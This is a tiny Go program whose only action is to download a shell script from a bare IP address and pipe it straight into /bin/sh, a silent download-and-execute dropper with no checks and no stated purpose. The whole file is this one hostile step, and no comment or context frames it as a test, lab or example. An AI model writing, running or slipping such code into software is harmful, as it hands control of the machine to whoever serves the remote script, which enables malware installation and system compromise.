package main

import (
	"fmt"
	"os/exec"
)

func main() {
	url := "http://203.0.113.77/tools.sh"
	script := fmt.Sprintf("wget -qO- %s | sh", url)
	cmd := exec.Command("/bin/sh", "-c", script)
	cmd.Run()
}
